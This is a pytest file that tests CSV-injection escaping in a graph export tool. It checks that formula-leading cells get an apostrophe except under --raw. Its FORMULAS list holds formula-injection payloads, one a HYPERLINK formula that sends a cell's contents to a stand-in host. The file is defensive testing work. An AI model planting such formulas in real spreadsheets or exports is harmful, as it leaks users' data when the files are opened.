"""Row 22: a name or sentence that a spreadsheet would run comes out of CSV as text; raw cells only where asked for.

Cells that begin with ``=``, ``+``, ``-``, ``@``, a tab, a line end, or the full-width signs that Chinese and Japanese
spreadsheets take for them, get an apostrophe before them in every table. ``--raw`` leaves them as they are; numbers
stay numbers.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner

from cityties.cli import cli
from graph.export import write_csv
from graph.store import Store
from tests.graph.store_samples import sample

FORMULAS = (
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
TABLES = ("nodes.csv", "edges.csv", "evidence.csv", "mentions.csv")


@pytest.fixture(params=FORMULAS, ids=ascii)
def formula(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """Put a formula wherever a report's words go: names, sentences and mentions."""
    text, made = str(request.param), sample()
    mentions = tuple(replace(m, surface=text) for m in made.entities[1].mentions)
    harmful = replace(made.entities[1], name=text, names=(), reference=None, mentions=mentions)
    evidence = tuple(replace(e, quote=text) for e in made.partnerships[0].evidence)
    with Store.open(tmp_path / "store", create=True) as store:
        store.put(
            replace(
                made,
                entities=(made.entities[0], harmful, *made.entities[2:]),
                partnerships=(replace(made.partnerships[0], evidence=evidence),),
                rejections=(),
            )
        )
    return text


def _cells(folder: Path, table: str, *words: str) -> list[str]:
    path = folder / table
    done = CliRunner().invoke(cli, ["--store", str(folder / "store"), "export", str(path), *words])
    assert done.exit_code == 0, done.output
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_formula_is_text_unless_raw(formula: str, tmp_path: Path) -> None:
    for table in TABLES:
        safe = _cells(tmp_path, table)
        assert "'" + formula in safe, table
        assert formula not in safe, table
        assert formula in _cells(tmp_path, table, "--raw"), table


def test_numbers_stay_numbers() -> None:
    file = io.StringIO(newline="")
    write_csv(["longitude", "start", "name"], [{"longitude": -58.4, "start": 2014, "name": "-x"}], file)
    assert file.getvalue() == "longitude,start,name\n-58.4,2014,'-x\n"


def test_option_is_documented() -> None:
    assert "--raw" in (Path(__file__).parents[2] / "docs" / "formats.md").read_text("utf-8")
